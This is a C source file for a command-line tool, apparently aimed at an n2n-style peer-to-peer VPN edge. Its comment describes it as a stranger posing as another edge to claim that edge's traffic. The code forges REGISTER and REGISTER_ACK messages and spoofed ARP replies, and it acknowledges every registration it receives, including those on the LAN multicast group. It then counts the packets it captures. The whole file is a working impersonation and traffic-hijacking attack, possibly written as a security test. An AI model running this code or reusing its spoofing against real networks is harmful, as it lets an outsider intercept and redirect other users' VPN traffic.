/* Says that it is another edge, in all ways that need no luck, and answers whatever it is asked: the stranger who wants
 * an edge's traffic for somebody else.
 *
 *	claim ADDRESS PORT COMMUNITY MAC TARGET_MAC MS
 *
 * Sends the edge at ADDRESS, PORT with TARGET_MAC REGISTERs of all classes from MAC, REGISTER_ACKs, and PACKETs with a
 * frame from a host behind MAC; acknowledges every REGISTER, also those to the LAN group.  After MS milliseconds it prints
 * the bytes that it has sent and got, and how many PACKETs it got.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { REGISTER = 1, PACKET = 3, REGISTER_ACK = 4, HEADER = 24, ROUND_MS = 100, LAN_PORT = 1968 };
static const uint32_t classes[] = { 0x1000, 0x4000, 0x10000, 0x400000, 0x1000000 };

struct claim {
	int fd, lan;
	struct sockaddr_in to;
	uint8_t community[20], mac[6], target[6];
	unsigned long sent, got, packets;
};

static void fatal(const char *what, const char *value)
{
	fprintf(stderr, "claim: %s %s\n", what, value);
	exit(2);
}

static void parse_mac(uint8_t mac[6], const char *text)
{
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
		fatal("no MAC:", text);
}

static size_t head(const struct claim *c, uint8_t *out, uint8_t type)
{
	memset(out, 0, HEADER);
	out[0] = 3;
	out[1] = 2;
	out[3] = type;
	memcpy(out + 4, c->community, sizeof(c->community));
	return HEADER;
}

static void put(struct claim *c, const struct sockaddr_in *to, const uint8_t *data, size_t len)
{
	if (sendto(c->fd, data, len, 0, (const struct sockaddr *)to, sizeof(*to)) == (ssize_t)len)
		c->sent += len;
}

static void send_register(struct claim *c, uint32_t cookie)
{
	uint8_t out[61] = { 0 };
	size_t at = head(c, out, REGISTER);
	uint32_t be = htonl(cookie);
	memcpy(out + at, &be, 4);
	memcpy(out + at + 4, c->mac, 6);
	memcpy(out + at + 10, c->target, 6);
	put(c, &c->to, out, sizeof(out));
}

static void send_ack(struct claim *c, const struct sockaddr_in *to, const uint8_t cookie[4], const uint8_t dst[6])
{
	uint8_t out[40];
	size_t at = head(c, out, REGISTER_ACK);
	memcpy(out + at, cookie, 4);
	memcpy(out + at + 4, dst, 6);
	memcpy(out + at + 10, c->mac, 6);
	put(c, to, out, sizeof(out));
}

/* An ARP reply from the peer's own MAC or from a made-up host behind it. */
static void send_packet(struct claim *c, uint8_t host)
{
	uint8_t out[38 + 42] = { 0 }, *frame = out + 38;
	size_t at = head(c, out, PACKET);
	memcpy(out + at, c->mac, 6);
	memcpy(out + at + 6, c->target, 6);
	out[36] = out[37] = 1;
	memcpy(frame, c->target, 6);
	memcpy(frame + 6, c->mac, 6);
	frame[11] ^= host;
	memcpy(frame + 12, (const uint8_t[]){ 8, 6, 0, 1, 8, 0, 6, 4, 0, 2 }, 10);
	memcpy(frame + 22, frame + 6, 6);
	memcpy(frame + 28, (const uint8_t[]){ 10, 9, 9, 250 }, 4);
	put(c, &c->to, out, sizeof(out));
}

static void one_round(struct claim *c)
{
	for (size_t i = 0; i < sizeof(classes) / sizeof(*classes); i++) {
		uint32_t cookie = htonl(classes[i]);
		uint8_t bytes[4];
		memcpy(bytes, &cookie, 4);
		send_register(c, classes[i]);
		send_ack(c, &c->to, bytes, c->target);
		send_packet(c, (uint8_t)i);
	}
}

static void answer(struct claim *c, int fd)
{
	uint8_t in[2048];
	struct sockaddr_in from;
	socklen_t from_len = sizeof(from);
	ssize_t len = recvfrom(fd, in, sizeof(in), 0, (struct sockaddr *)&from, &from_len);
	if (len < HEADER + 16)
		return;
	if (fd == c->fd)
		c->got += (unsigned long)len;
	if ((in[3] & 0x1f) == PACKET)
		c->packets++;
	if ((in[3] & 0x1f) == REGISTER && memcmp(in + HEADER + 4, c->mac, 6))
		send_ack(c, &from, in + HEADER, in + HEADER + 4);
}

/* On the interface that leads to the target. */
static int open_lan(const struct sockaddr_in *to)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(LAN_PORT) }, own = any;
	socklen_t own_len = sizeof(own);
	int fd = socket(AF_INET, SOCK_DGRAM, 0), way = socket(AF_INET, SOCK_DGRAM, 0);
	if (connect(way, (const struct sockaddr *)to, sizeof(*to)) || getsockname(way, (struct sockaddr *)&own, &own_len))
		fatal("no way to", "the target");
	close(way);
	struct ip_mreq group = { .imr_multiaddr.s_addr = inet_addr("224.0.0.68"), .imr_interface = own.sin_addr };
	if (bind(fd, (struct sockaddr *)&any, sizeof(any)) ||
	    setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group)))
		fatal("cannot listen to", "the LAN group");
	return fd;
}

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	struct claim c = { .to = { .sin_family = AF_INET } };
	if (argc != 7)
		fatal("usage:", "claim ADDRESS PORT COMMUNITY MAC TARGET_MAC MS");
	c.to.sin_port = htons((uint16_t)atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &c.to.sin_addr) != 1)
		fatal("bad address", argv[1]);
	memcpy(c.community, argv[3], strnlen(argv[3], sizeof(c.community) - 1));
	parse_mac(c.mac, argv[4]);
	parse_mac(c.target, argv[5]);
	c.fd = socket(AF_INET, SOCK_DGRAM, 0);
	c.lan = open_lan(&c.to);
	for (long now = now_ms(), end = now + atol(argv[6]), next = now; now < end; now = now_ms()) {
		struct pollfd fds[2] = { { .fd = c.fd, .events = POLLIN }, { .fd = c.lan, .events = POLLIN } };
		if (now >= next) {
			one_round(&c);
			next = now + ROUND_MS;
		}
		poll(fds, 2, (int)(next - now));
		for (int i = 0; i < 2; i++)
			if (fds[i].revents & POLLIN)
				answer(&c, fds[i].fd);
	}
	printf("sent %lu got %lu packets %lu\n", c.sent, c.got, c.packets);
	return 0;
}
